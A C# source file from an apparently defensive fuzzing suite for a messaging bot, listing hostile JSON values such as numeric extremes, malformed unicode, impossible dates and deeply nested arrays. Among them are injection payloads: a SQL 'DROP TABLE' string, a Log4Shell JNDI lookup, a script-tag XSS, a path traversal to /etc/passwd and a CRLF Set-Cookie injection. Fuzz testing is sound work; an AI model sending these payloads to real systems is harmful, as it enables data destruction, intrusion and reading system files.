namespace OutletBot.Fuzz.Bodies;

/// <summary>Values, as they stand in JSON, that have broken readers of JSON, databases, logs, pages and prompts.</summary>
internal static class HostileValues
{
    public static readonly IReadOnlyList<string> All =
    [
        "null", "true", "false", "{}", "[]", "[[]]", "{\"body\":{}}", "\"\"", "\" \"", "\"x\"", "0", "-0", "-1", "1.5", "1e400", "-1e-400", "2147483648", "9223372036854775808",
        new string('9', 300), "0x10", "01", "NaN", "Infinity", "undefined", "'x'",
        "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udfff\\ud800\"", "\"\\ud83d\\ude00\"", "\"\\uD83D\"", "\"\\u2028\"", "\"\\u2029x\"", "\"\\u202e\\u2066abc\\u2069\"", "\"\\ufeff\"",
        "\"\\u200b\\u200d\\ufe0f\"", "\"\\r\\nSet-Cookie: a=b\"", "\"\\u001b[31m\"", "\"\\b\\f\\t\"", "\"\\x\"", "\"\\u12\"", "\"\u2028\u0085\"", "\"e\u0301\u0301\u0301\u0301\"", "\"\U0001F468\u200D\U0001F469\u200D\U0001F467\"",
        "\"'; DROP TABLE inbox; --\"", "\"{{contact.id}}\"", "\"${jndi:ldap://example.com}\"", "\"{0}%s%n\"", "\"<script>alert(1)</script>\"", "\"../../etc/passwd\"", "\"a/b\"", "\"*\"", "\"-\"", "\"meta:1\"",
        "\"0001-01-01T00:00:00Z\"", "\"0001-01-01T00:00:00+14:00\"", "\"9999-12-31T23:59:59.9999999-14:00\"", "\"2026-02-30\"", "\"2026-13-99T99:99:99Z\"", "\"now\"", "253402300799", "99999999999999", "-62135596800",
        "\"InboundMessage\"", "\"OutboundMessage\"", "\"page\"", "\"leadgen\"", "\"WhatsApp\"", "\"TYPE_EMAIL\"", "\"outbound\"", "\"app\"", "\"STOP\"", "\"bot-off\"",
        "\"500\"", "\"$1,2.3,4e5 mil k 1/2 %\"", "\"a@b@c..d@\"", "\"1) 2) 3) el segundo a las 25:61 del 31 de febrero\"",
        $"\"{new string('a', 129)}\"", $"\"{new string('ñ', 5000)}\"", $"\"{string.Concat(Enumerable.Repeat("\\ud83d\\ude00", 2048))}x\"", $"\"{string.Concat(Enumerable.Repeat("1 ", 2000))}\"",
        $"\"{string.Concat(Enumerable.Repeat("a.b@", 1000))}\"", $"\"{new string('(', 4000)}\"", $"\"{string.Concat(Enumerable.Repeat("no, espera, son ", 250))}\"",
        new string('[', 31) + new string(']', 31), new string('[', 64) + new string(']', 64), string.Concat(Enumerable.Repeat("{\"a\":", 40)) + "1" + new string('}', 40),
    ];
}
